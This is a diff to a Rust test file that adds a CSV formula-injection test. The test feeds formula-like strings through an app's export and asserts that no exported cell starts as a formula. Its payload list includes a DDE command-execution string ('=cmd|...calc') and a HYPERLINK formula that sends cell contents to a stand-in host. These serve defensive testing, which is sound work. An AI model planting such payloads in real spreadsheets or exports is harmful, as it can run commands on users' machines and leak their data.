@@ -138,3 +138,71 @@ fn everything_can_be_taken_away() {
     let csv = std::fs::read_to_string(folder.join("decisions.csv")).unwrap();
     assert!(csv.starts_with("item,verdict,actor,reason,decided_at\n1,keep,ada,"), "{csv}");
 }
+
+/// A table program takes a text that begins so for a formula, and runs it (OWASP, CSV injection).
+const FORMULAS: [&str; 8] =
+    ["=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"http://x.example/?\"&A1)", "＝1+1", "＠SUM(A1)", "=cmd|' /C calc'!A0"];
+const DIGEST: &str = "[[digest]]\nslug = \"hebdo\"\nschedule = \"0 8 * * Mon\"\n";
+
+/// A feed whose texts are formulas.
+fn of_formulas() -> FarmFeed {
+    let item = |(number, formula): (usize, &&str)| {
+        let text = formula.replace('&', "&amp;");
+        format!(
+            "<item><title>{text} law</title><guid>={number}</guid><category>=tag</category><author>@{text}</author>\
+             <description>{text} law</description></item>"
+        )
+    };
+    let items: String = FORMULAS.iter().enumerate().map(item).collect();
+    let body = format!("<rss version=\"2.0\"><channel><title>=t</title>{items}</channel></rss>");
+    FarmFeed { content_type: "application/rss+xml".to_owned(), body: body.into() }
+}
+
+/// Cells of all tables that begin as formulas do.
+fn formulas_in(folder: &std::path::Path) -> Vec<String> {
+    let signs = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+    let mut found = Vec::new();
+    for name in ["sources", "items", "decisions", "editions", "subscribers"] {
+        let mut reader = csv::Reader::from_path(folder.join(name).with_extension("csv")).unwrap();
+        for record in reader.records().map(Result::unwrap) {
+            let is_one = |cell: &&str| cell.starts_with(signs) && cell.parse::<f64>().is_err();
+            found.extend(record.iter().filter(is_one).map(|cell| format!("{name}: {cell:?}")));
+        }
+    }
+    found
+}
+
+fn with_digest(home: &Home) {
+    let path = home.path().join("sources.toml");
+    let sources = std::fs::read_to_string(&path).unwrap();
+    std::fs::write(path, sources + DIGEST).unwrap();
+}
+
+#[test]
+fn no_cell_of_an_export_is_a_formula_and_an_address_finds_its_way_back() {
+    let farm = Farm::serve([of_formulas()]);
+    let home = farm.home();
+    with_digest(&home);
+    assert!(home.run(&["refresh", "--all"]).status.success());
+    for (arguments, reason) in [(["items", "keep", "1"], "=1+1"), (["items", "drop", "2"], "\t-1")] {
+        assert!(home.run(&[&arguments[..], &["--as", "@ada", "--reason", reason]].concat()).status.success());
+    }
+    let addresses = ["+tag@example.org", "-x@example.org", "=y@example.org", "o'neil@example.org"];
+    for address in addresses {
+        let added = home.run(&["subscribers", "add", "--", address, "hebdo"]);
+        assert!(added.status.success(), "{}", String::from_utf8_lossy(&added.stderr));
+    }
+    let folder = home.path().join("export");
+    home.json(&["db", "export", folder.to_str().unwrap(), "--json"]);
+    assert_eq!(formulas_in(&folder), Vec::<String>::new());
+    let lines = std::fs::read_to_string(folder.join("items.jsonl")).unwrap();
+    assert!(lines.contains(r#""title":"=1+1 law""#), "the JSON lines have it as it is: {lines}");
+    let (_farm, other) = filled();
+    with_digest(&other);
+    let imported = other.run(&["subscribers", "import", folder.join("subscribers.csv").to_str().unwrap()]);
+    assert!(imported.status.success(), "{}", String::from_utf8_lossy(&imported.stderr));
+    let rows = other.json(&["subscribers", "list", "--json"]);
+    let mut back: Vec<&str> = rows.as_array().unwrap().iter().map(|row| row["email"].as_str().unwrap()).collect();
+    back.sort_unstable();
+    assert_eq!(back, addresses);
+}
